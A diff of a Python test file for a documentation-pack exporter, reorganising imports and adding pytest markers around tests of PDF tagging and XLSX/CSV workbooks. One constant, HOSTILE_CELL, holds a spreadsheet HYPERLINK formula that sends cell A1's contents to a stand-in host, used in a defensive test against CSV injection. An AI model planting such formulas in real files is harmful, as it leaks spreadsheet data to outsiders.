@@ -14,11 +14,12 @@ import pytest
 from click.testing import CliRunner
 from openpyxl import load_workbook
 
-from conftest import PROJECTS
-from sitebuild import make_project
+from helpers.pdftags import read
+from helpers.projects import GIT_ENV, PROJECTS, commit_all, make_project
 from smsdocs import standards
 from smsdocs.cli import cli
-from test_site import GIT_ENV, commit_all
+
+pytestmark = [pytest.mark.export]
 
 RATIONALE_BEFORE = "The Paris office is a sales office that delivers and supports no services."
 RATIONALE_AFTER = "The Paris office only sells; it delivers, supports and hosts no services at all."
@@ -169,7 +170,6 @@ def test_the_changes_annex_names_entries_with_both_texts(unpacked: Path) -> None
     assert " ".join(RATIONALE_AFTER.split()) in words
     assert annex.metadata["title"] == "Changes in the scope from v1.0.0 to v1.1.0"
     # Archival and accessible, as the manual is: PDF/A-2a and PDF/UA-1, every page tagged.
-    from pdftags import read
 
     tagged = read(unpacked / "changes.pdf")
     assert not tagged.problems
@@ -208,6 +208,7 @@ def test_the_matrix_and_the_register_open_as_workbooks(unpacked: Path) -> None:
     assert items == {title for _, title in standards.DOCUMENTED_INFORMATION}
 
 
+@pytest.mark.client
 def test_the_workbooks_are_valid_ooxml_that_excel_opens_cleanly(unpacked: Path) -> None:
     pytest.importorskip("openxml_audit", reason="openxml-audit is not installed")
     for name in ("traceability.xlsx", "register.xlsx"):
@@ -221,6 +222,7 @@ def test_the_workbooks_are_valid_ooxml_that_excel_opens_cleanly(unpacked: Path) 
         assert "expected to open cleanly" in result.stdout, result.stdout
 
 
+@pytest.mark.client
 def test_libreoffice_reads_the_workbook_as_the_csv_says(unpacked: Path, tmp_path: Path) -> None:
     office = shutil.which("soffice")
     if office is None:
@@ -380,6 +382,7 @@ def test_a_failed_pack_leaves_no_zip(released: Path, tmp_path: Path) -> None:
 HOSTILE_CELL = '=HYPERLINK("http://example.invalid/?"&A1,"Open")'
 
 
+@pytest.mark.client
 def test_text_in_the_workbooks_is_never_a_formula(tmp_path: Path) -> None:
     """A document titled like a formula is shown as its text by a spreadsheet, from the XLSX
     and from the CSV alike (CSV injection): nothing in the pack runs when it is opened."""
